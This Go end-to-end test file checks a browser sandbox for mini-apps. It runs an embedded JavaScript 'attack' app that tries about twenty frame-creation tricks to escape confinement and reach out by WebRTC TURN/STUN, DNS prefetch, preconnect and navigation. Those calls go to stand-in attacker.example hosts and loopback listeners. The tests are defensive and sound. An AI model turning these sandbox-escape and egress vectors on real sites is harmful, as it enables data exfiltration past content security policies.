package e2e

import (
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"net"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// Egress that CSP does not govern (docs/sandbox.md, "What CSP does not cover"): WebRTC from the app's
// window and from any frame it makes (issue 11, finding 1), and host names looked up for navigations and
// hints the sandbox refuses (finding 2). What leaves is measured with listeners of the test's own: UDP
// sockets that count datagrams, and the browser's own record of the names it resolved (dnsRecord).

// dnsRecord collects, over a suite, the labels that must never be resolved, the control labels that must be
// (so the record is known to work), and the residue: labels resolved by a way this browser leaves open,
// which are logged, not asserted. check reads the record once the browser is done.
type dnsRecord struct {
	mu       sync.Mutex
	never    map[string]string
	controls map[string]string
	residue  map[string]string
	text     func(t testing.TB) string // everything the browser resolved (or tried to), as text
}

func newDNSRecord(text func(t testing.TB) string) *dnsRecord {
	return &dnsRecord{never: map[string]string{}, controls: map[string]string{}, residue: map[string]string{}, text: text}
}

func (d *dnsRecord) add(m map[string]string, label, why string) {
	d.mu.Lock()
	defer d.mu.Unlock()
	m[label] = why
}

func (d *dnsRecord) mustNotResolve(label, why string) { d.add(d.never, label, why) }
func (d *dnsRecord) mustResolve(label, why string)    { d.add(d.controls, label, why) }
func (d *dnsRecord) mayResolve(label, why string)     { d.add(d.residue, label, why) }

func (d *dnsRecord) check(t *testing.T) {
	t.Helper()
	d.mu.Lock()
	defer d.mu.Unlock()
	if len(d.never)+len(d.controls)+len(d.residue) == 0 {
		return
	}
	if d.text == nil {
		t.Fatal("this browser was started without a DNS record")
	}
	text := d.text(t)
	for label, why := range d.controls {
		if !strings.Contains(text, label) {
			t.Errorf("the control %s (%s) is not in the DNS record: the record does not show lookups", label, why)
		}
	}
	for label, why := range d.never {
		if n := strings.Count(text, label); n > 0 {
			t.Errorf("%s was looked up (%d mentions in the DNS record): %s", label, n, why)
		}
	}
	var res []string
	for label, what := range d.residue {
		res = append(res, fmt.Sprintf("%s: %d", what, strings.Count(text, label)))
	}
	sort.Strings(res)
	for _, r := range res {
		t.Logf("residue (a way this browser leaves open; mentions of its label in the DNS record): %s", r)
	}
}

func uniqueLabel(prefix string) string {
	var b [6]byte
	_, _ = rand.Read(b[:])
	return prefix + hex.EncodeToString(b[:])
}

// udpSink counts the datagrams that reach a loopback UDP port.
type udpSink struct {
	conn net.PacketConn
	n    atomic.Int32
}

func newUDPSink(t testing.TB) *udpSink {
	t.Helper()
	c, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	u := &udpSink{conn: c}
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := c.ReadFrom(buf); err != nil {
				return
			}
			u.n.Add(1)
		}
	}()
	t.Cleanup(func() { c.Close() })
	return u
}

func (u *udpSink) turnURL() string {
	return fmt.Sprintf("turn:127.0.0.1:%d?transport=udp", u.conn.LocalAddr().(*net.UDPAddr).Port)
}

// rtcAttempt runs in the app's window and in every child frame the attack makes: it tries a peer
// connection with a TURN server (the sink) and a STUN server named after the vector, and tells the app.
const rtcAttempt = `function (k, cfg) {
	var v;
	try {
		var PC = window.RTCPeerConnection || window.webkitRTCPeerConnection;
		if (typeof PC !== "function") v = "no RTCPeerConnection";
		else {
			var pc = new PC({iceServers: [{urls: cfg.turn, username: "vb-" + k, credential: "x"}, {urls: "stun:" + k + "-" + cfg.label + ".attacker.example"}]});
			pc.createDataChannel("x");
			pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
			window.__vbPC = pc;
			v = "ran";
		}
	} catch (e) { v = "threw " + e.name; }
	try { if (parent !== window) parent.postMessage({vbRtc: k, v: v}, "*"); } catch (e) {}
	return v;
}`

// rtcEgressApp is a mini-app that tries WebRTC every way we know to get a window of its own: static child
// frames (plain, in declarative shadow roots, written by document.write) and, in its "attack" tool,
// srcdoc, innerHTML, javascript:, about:blank, data: and blob: frames (by property and by attribute), srcdoc given later to an empty frame
// (property and attribute node), a data: navigation of an empty frame, grandchildren (srcdoc in srcdoc,
// blob: in data:), frames in a closed shadow root, setHTMLUnsafe and parseHTMLUnsafe with declarative
// shadow roots. A child relays what its own children report.
func rtcEgressApp(turn, label string) string {
	cfg := js(map[string]string{"turn": turn, "label": label})
	child := func(k string) string { return "<script>(" + rtcAttempt + ")(" + js(k) + ", " + cfg + ")</scr" + "ipt>" }
	frame := func(k string) string { return `<iframe srcdoc="` + html.EscapeString(child(k)) + `"></iframe>` }
	return `<!doctype html><html><head><meta charset="utf-8"><title>RTC Egress</title><script>
const CFG = ` + cfg + `, attempt = (` + rtcAttempt + `), reports = {};
addEventListener("message", (e) => { if (e.data && typeof e.data.vbRtc === "string") reports[e.data.vbRtc] = e.data.v; });
const childHTML = (k) => "<scr" + "ipt>(" + attempt.toString() + ")(" + JSON.stringify(k) + ", " + JSON.stringify(CFG) + ")</scr" + "ipt>";
const frameHTML = (k) => '<iframe srcdoc="' + childHTML(k).replace(/&/g, "&amp;").replace(/"/g, "&quot;") + '"></iframe>';
// parentHTML(k, grandchild): a child that relays its children's reports and makes one, from a script.
const relay = "<scr" + "ipt>addEventListener('message', (e) => { if (e.data && e.data.vbRtc) parent.postMessage(e.data, '*'); });</scr" + "ipt>";
const parentHTML = (k, how) => relay + "<scr" + "ipt>const h = " + JSON.stringify(childHTML(k)).replace(/<\//g, "<\\/") +
	"; const g = document.createElement('iframe'); " + how + "; document.documentElement.append(g);</scr" + "ipt>";
const tick = (ms) => new Promise((r) => setTimeout(r, ms || 0));
// outcome: what the vector's child reported, else whether its frame is still there. A child that runs
// reports at once; only a frame left in the document (or one out of sight, wait) is waited for.
async function outcome(k, f, wait) {
	await tick(); await tick();
	for (let i = 0; i < 40 && !(k in reports) && (f ? f.isConnected : wait); i++) await tick(50);
	if (k in reports) return reports[k];
	if (!f) return "no report";
	return f.isConnected ? "kept" : "removed";
}
async function vector(k, make) {
	let f;
	try { f = await make(k); } catch (e) { return "refused: " + e.name; }
	return outcome(k, f, f === null);
}
function append(f) { document.body.append(f); return f; }
function iframe(k, set) { const f = document.createElement("iframe"); set(f, k); return append(f); }
async function attack() {
	const out = {window: typeof window.RTCPeerConnection, webkit: typeof window.webkitRTCPeerConnection, windowAttempt: attempt("window", CFG)};
	const vectors = {
		// static frames: the plain one is confined by a new load of its own, which may end after the app's
		// load event, so its report is waited for; the disarmed ones never load (no report)
		"static-srcdoc": () => outcome("static-srcdoc", null, true), "dsd-closed": () => outcome("dsd-closed", null),
		"dsd-open": () => outcome("dsd-open", null), "dsd-write": () => outcome("dsd-write", null),
		srcdoc: () => vector("srcdoc", (k) => iframe(k, (f) => { f.srcdoc = childHTML(k); })),
		innerHTML: () => vector("innerHTML", (k) => { const d = append(document.createElement("div")); d.innerHTML = frameHTML(k); return d.firstChild; }),
		javascript: () => vector("javascript", (k) => iframe(k, (f) => { f.src = "javascript:" + encodeURIComponent(JSON.stringify(childHTML(k))); })),
		data: () => vector("data", (k) => iframe(k, (f) => { f.src = "data:text/html," + encodeURIComponent(childHTML(k)); })),
		dataAttr: () => vector("dataAttr", (k) => iframe(k, (f) => { f.setAttribute("src", "data:text/html," + encodeURIComponent(childHTML(k))); })),
		blobAttr: () => vector("blobAttr", (k) => iframe(k, (f) => { f.setAttribute("src", URL.createObjectURL(new Blob([childHTML(k)], {type: "text/html"}))); })),
		dataBase64: () => vector("dataBase64", (k) => iframe(k, (f) => { f.src = "data:text/html;base64," + btoa(childHTML(k)); })),
		srcdocLater: () => vector("srcdocLater", async (k) => { const f = iframe(k, () => {}); await tick(); f.srcdoc = childHTML(k); return f; }),
		attrNode: () => vector("attrNode", async (k) => { const f = iframe(k, () => {}); await tick(); const a = document.createAttribute("srcdoc"); a.value = childHTML(k); f.setAttributeNode(a); return f; }),
		locationData: () => vector("locationData", async (k) => { const f = iframe(k, () => {}); await tick(); f.contentWindow.location = "data:text/html," + encodeURIComponent(childHTML(k)); return f; }),
		grandchild: () => vector("grandchild", (k) => iframe(k, (f) => { f.srcdoc = parentHTML(k, "g.srcdoc = h"); })),
		grandchildBlob: () => vector("grandchildBlob", (k) => iframe(k, (f) => { f.src = "data:text/html," + encodeURIComponent(parentHTML(k, "g.src = URL.createObjectURL(new Blob([h], {type: 'text/html'}))")); })),
		blob: () => vector("blob", (k) => iframe(k, (f) => { f.src = URL.createObjectURL(new Blob([childHTML(k)], {type: "text/html"})); })),
		aboutBlank: () => vector("aboutBlank", (k) => { const f = iframe(k, () => {}); reports[k] = f.contentWindow.eval("(" + attempt.toString() + ")")(k, CFG); return f; }),
		closedShadow: () => vector("closedShadow", (k) => { const h = append(document.createElement("div")); const sr = h.attachShadow({mode: "closed"}); const f = document.createElement("iframe"); f.srcdoc = childHTML(k); sr.append(f); return f; }),
		clonedShadow: () => vector("clonedShadow", (k) => { const h = document.createElement("div"); const sr = h.attachShadow({mode: "closed", clonable: true}); sr.innerHTML = frameHTML(k); append(h.cloneNode(true)); return null; }),
		setHTMLUnsafe: () => vector("setHTMLUnsafe", (k) => { const d = append(document.createElement("div")); if (!d.setHTMLUnsafe) throw {name: "unsupported"}; d.setHTMLUnsafe('<template shadowrootmode="closed">' + frameHTML(k) + "</template>"); return null; }),
		parseHTMLUnsafe: () => vector("parseHTMLUnsafe", (k) => { if (!Document.parseHTMLUnsafe) throw {name: "unsupported"}; const d = Document.parseHTMLUnsafe('<div id="h"><template shadowrootmode="closed">' + frameHTML(k) + "</template></div>"); append(document.adoptNode(d.getElementById("h"))); return null; }),
	};
	const names = Object.keys(vectors), results = await Promise.all(names.map((k) => vectors[k]()));
	names.forEach((k, i) => { out[k] = results[i]; });
	return out;
}
webMcp.registerTool({name: "attack", description: "", parameters: {type: "object"}, execute: attack});
addEventListener("load", () => webMcp.ready());
</script></head><body>
` + frame("static-srcdoc") + `
<div><template shadowrootmode="closed">` + frame("dsd-closed") + `</template></div>
<div><template shadowrootmode="open">` + frame("dsd-open") + `</template></div>
<script>try { document.write('<div><template shadowroot'); document.write('mode="closed">' + frameHTML("dsd-write") + "</template></div>"); } catch (e) { reports["dsd-write"] = "refused: " + e.name; }</script>
</body></html>`
}

// childWays are the attack's vectors that become child frames (docs/sandbox.md, "Child frames"): their
// scripts run, with the confinement.
var childWays = []string{"static-srcdoc", "srcdoc", "innerHTML", "data", "dataAttr", "dataBase64", "blob", "blobAttr", "srcdocLater", "attrNode", "grandchild", "grandchildBlob"}

// rtcAttack launches rtcEgressApp and runs its attack: what each vector reported, and the app's id.
func rtcAttack(t *testing.T, p page, sink *udpSink, label string) (map[string]string, string) {
	t.Helper()
	var id string
	eval(t, p, &id, `return (await window.voicebox.launch({name: "rtc-egress.html", html: %s})).appId;`, js(rtcEgressApp(sink.turnURL(), label)))
	o := callTool(t, p, id, "attack", map[string]any{})
	wantOK(t, "attack", o, "")
	var out map[string]string
	if err := json.Unmarshal(o.Result, &out); err != nil {
		t.Fatalf("attack result %s: %v", o.Result, err)
	}
	t.Logf("%s: WebRTC attempts: %s", p.name(), o.Result)
	return out, id
}

// TestChildFramesUnconfined is the control of the child frames' confinement: the same attack against a
// server that serves child documents without confine.js (sandbox.UnsafeUnconfinedChildrenEnv) sends
// datagrams from the children. Chromium only: the WebKitGTK here has no WebRTC at all.
func TestChildFramesUnconfined(t *testing.T) {
	if testing.Short() {
		t.Skip("browser end-to-end tests are skipped in -short mode")
	}
	t.Setenv("VOICEBOX_UNSAFE_UNCONFINED_CHILD_FRAMES", "1")
	s := startServer(t)
	p := openChromium(t, s.url)
	openRoom(t, p)
	sink := newUDPSink(t)
	out, _ := rtcAttack(t, p, sink, uniqueLabel("vbrtcoff"))
	var ran []string
	for _, k := range childWays {
		if out[k] == "ran" {
			ran = append(ran, k)
		}
	}
	if len(ran) == 0 {
		t.Fatalf("no child frame ran WebRTC with the confinement off: the case could not fail (%v)", out)
	}
	t.Logf("with the confinement off these children ran WebRTC: %v", ran)
	deadline := time.Now().Add(30 * time.Second)
	for sink.n.Load() == 0 {
		if time.Now().After(deadline) {
			t.Fatal("with the confinement off no datagram reached the TURN listener: the case could not fail")
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Logf("%d datagram(s) from unconfined child frames", sink.n.Load())
}

// caseWebRTCEgress: no datagram reaches a UDP listener and no STUN name is looked up, from the app's window
// or from any frame it makes. The control runs WebRTC in the room (outside the sandbox) after the attack:
// its datagram reaching the control listener and its name in the DNS record show that the measurement sees
// what WebRTC sends. WebKitGTK here is built without WebRTC (RTCPeerConnection is absent even in the room),
// so there only the absence is checked.
func caseWebRTCEgress(t *testing.T, p page) {
	sink, control := newUDPSink(t), newUDPSink(t)
	label := uniqueLabel("vbrtc")
	p.dns().mustNotResolve(label, "a STUN server named by a mini-app")
	out, id := rtcAttack(t, p, sink, label)
	if out["window"] != "undefined" || out["webkit"] != "undefined" {
		t.Errorf("RTCPeerConnection in the app's window: %q, webkitRTCPeerConnection: %q", out["window"], out["webkit"])
	}
	for k, v := range out {
		if v == "ran" {
			t.Errorf("vector %s: %s", k, v)
		}
	}
	// Child frames from srcdoc, blob: and data: run their scripts, confined (docs/sandbox.md, "Child frames").
	for _, k := range childWays {
		if out[k] != "no RTCPeerConnection" {
			t.Errorf("child frame %s: %q, want its script to run without RTCPeerConnection", k, out[k])
		}
	}
	closeApp(t, p, id)

	ctl := uniqueLabel("vbrtcctl")
	var started string
	eval(t, p, &started, `
		if (typeof RTCPeerConnection !== "function") return "absent";
		const pc = new RTCPeerConnection({iceServers: [{urls: %s, username: "control", credential: "x"}, {urls: "stun:" + %s + ".attacker.example"}]});
		pc.createDataChannel("x");
		await pc.setLocalDescription(await pc.createOffer());
		window.__vbControlPC = pc;
		return "started";`, js(control.turnURL()), js(ctl))
	if started == "absent" {
		t.Logf("%s: no RTCPeerConnection in the room either (built without WebRTC): no control run", p.name())
	} else {
		p.dns().mustResolve(ctl, "the room's own STUN server")
		deadline := time.Now().Add(30 * time.Second)
		for control.n.Load() == 0 {
			if time.Now().After(deadline) {
				t.Fatal("the room's own WebRTC never reached the control listener: the measurement does not work")
			}
			time.Sleep(20 * time.Millisecond)
		}
		eval(t, p, nil, `window.__vbControlPC.close(); delete window.__vbControlPC;`)
	}
	if n := sink.n.Load(); n != 0 {
		t.Errorf("%d datagram(s) reached the mini-app's TURN server", n)
	}
}

// caseRefusedNavigationLookups: names the sandbox refuses to reach (a navigation of the app, a frame, an
// anchor, resource hints) and whether the browser looks them up anyway. A click on a link out of the app's
// folder does nothing (confine.js), so its host is never looked up (on main Chromium looked it up). Beyond
// that Chromium starts a preconnect (DNS and, for an address, a TCP connection) when a frame's navigation
// begins, before it checks the parent's frame-src, and resolves <link rel=preconnect|dns-prefetch> hints,
// which no CSP directive governs; the app's document has an opaque origin, so the Navigation API that could
// refuse a navigation first is off there. Those are the residue of serve in Chromium (docs/sandbox.md),
// logged here with their counts. WebKitGTK checks before it resolves, except for preconnect hints. The desktop has no residue: the guard turns the
// hints off and decides every navigation before any request (backend/guard TestNoLookupsForRefusedNames).
func caseRefusedNavigationLookups(t *testing.T, p page) {
	label := uniqueLabel("vbnav")
	name := func(k string) string { return k + "-" + label + ".attacker.example" }
	conns := newTCPSink(t)
	// Vectors refused before any lookup: a link out of the app's folder everywhere (confine.js), and in
	// WebKitGTK every navigation and the dns-prefetch hint.
	closedHere := map[string]bool{"anchor": true}
	if p.name() == "webkitgtk" {
		closedHere = map[string]bool{"anchor": true, "iframe": true, "dnsprefetch": true, "location": true}
	}
	for _, k := range []string{"anchor", "iframe", "dnsprefetch", "preconnect", "location"} {
		if closedHere[k] {
			p.dns().mustNotResolve(name(k), "a "+k+" the sandbox refuses")
		} else {
			p.dns().mayResolve(name(k), p.name()+" "+k)
		}
	}
	app := `<!doctype html><title>Nav Lookups</title><script>
		const host = (k) => "http://" + k + "-" + ` + js(label) + ` + ".attacker.example:7001/";
		webMcp.registerTool({name: "hints", description: "", parameters: {type: "object"}, execute: () => {
			const f = document.createElement("iframe"); f.src = host("iframe"); document.body.append(f);
			for (const rel of ["dns-prefetch", "preconnect"]) {
				const l = document.createElement("link"); l.rel = rel; l.href = host(rel.replace("-", "")); document.head.append(l);
			}
			const g = document.createElement("iframe"); g.src = ` + js(conns.url()) + `; document.body.append(g);
			return "done";
		}});
		webMcp.registerTool({name: "leave", description: "", parameters: {type: "object", properties: {how: {type: "string"}}}, execute: ({how}) => {
			if (how === "anchor") { const a = document.createElement("a"); a.href = host("anchor"); document.body.append(a); a.click(); }
			else location.href = host("location");
			return "leaving";
		}});
		webMcp.ready();</script>`
	for i, how := range []string{"anchor", "location"} {
		var id string
		eval(t, p, &id, `return (await window.voicebox.launch({name: "nav-lookups.html", html: %s})).appId;`, js(app))
		if i == 0 {
			wantOK(t, "hints", callTool(t, p, id, "hints", map[string]any{}), `"done"`)
		}
		// The navigation begins in the tool, before it answers; the answer may not make it back (Chromium ends
		// the document with an error page; WebKit keeps it).
		if o := callTool(t, p, id, "leave", map[string]any{"how": how}); !o.OK && o.Refused != "unknown-tool" {
			t.Fatalf("%s: %+v", how, o)
		}
		closeApp(t, p, id)
	}
	// The control: the room (outside the sandbox) asks for a preconnect; both browsers resolve it.
	ctl := uniqueLabel("vbnavctl")
	p.dns().mustResolve(ctl, "the room's own preconnect hint")
	eval(t, p, nil, `const l = document.createElement("link"); l.rel = "preconnect"; l.href = "http://" + %s + ".attacker.example/"; document.head.append(l); setTimeout(() => l.remove(), 5000);`, js(ctl))
	if n := conns.requests.Load(); n != 0 {
		t.Errorf("%d request(s) reached a listener through a refused frame", n)
	}
	t.Logf("%s: TCP connections opened to a refused frame's address (no request sent): %d", p.name(), conns.accepted.Load())
}

// tcpSink counts TCP connections and HTTP requests that reach a loopback port.
type tcpSink struct {
	ln                 net.Listener
	accepted, requests atomic.Int32
}

func newTCPSink(t testing.TB) *tcpSink {
	t.Helper()
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &tcpSink{ln: ln}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			s.accepted.Add(1)
			go func() {
				defer c.Close()
				buf := make([]byte, 1)
				if n, _ := c.Read(buf); n > 0 {
					s.requests.Add(1)
				}
			}()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return s
}

func (s *tcpSink) url() string { return "http://" + s.ln.Addr().String() + "/frame" }
